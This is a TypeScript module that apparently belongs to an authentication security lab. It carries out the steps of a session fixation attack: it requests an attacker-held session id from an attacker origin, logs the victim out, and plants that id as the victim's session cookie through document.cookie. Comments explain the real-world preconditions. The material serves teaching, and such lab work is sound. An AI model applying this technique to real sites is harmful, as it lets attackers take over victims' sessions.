/**
 * The two halves of a fixation the page drives: ask the attacker's server for a session id it
 * obtained (POST /fixation/session on the attacker site), and plant it in this browser.
 *
 * Planting is the part the lab plays: a real attacker needs a way to set a cookie for the victim's
 * site (a sibling subdomain, plain HTTP on the path, an XSS). `document.cookie` can write the
 * cookie only while no HttpOnly cookie of that name exists, so the victim's own session is ended
 * first (POST /logout).
 */
import { findProxyRoute } from '../../../lib/cookie-paths.ts';
import { findAttackerOrigin } from '../attacks-client.ts';

export async function obtainAttackerSessionId(): Promise<string> {
  const response = await fetch(`${findAttackerOrigin()}/fixation/session`, { method: 'POST' });
  if (!response.ok) throw new Error(`POST /fixation/session: HTTP ${response.status}`);
  return ((await response.json()) as { session_id: string }).session_id;
}

export async function plantSessionId(id: string): Promise<void> {
  const prefix = findProxyRoute('session', 'main').prefix;
  await fetch(`${prefix}/logout`, { method: 'POST', headers: { 'X-Requested-With': 'authlab' } });
  // The proxy stores the API's Path=/ cookie under the prefix (cookie-paths.ts): plant it there.
  // biome-ignore lint/suspicious/noDocumentCookie: planting a raw cookie string IS the attack step (the Cookie Store API is Chromium-only).
  document.cookie = `authlab.sid=${id}; path=${prefix}/; SameSite=Strict`;
}
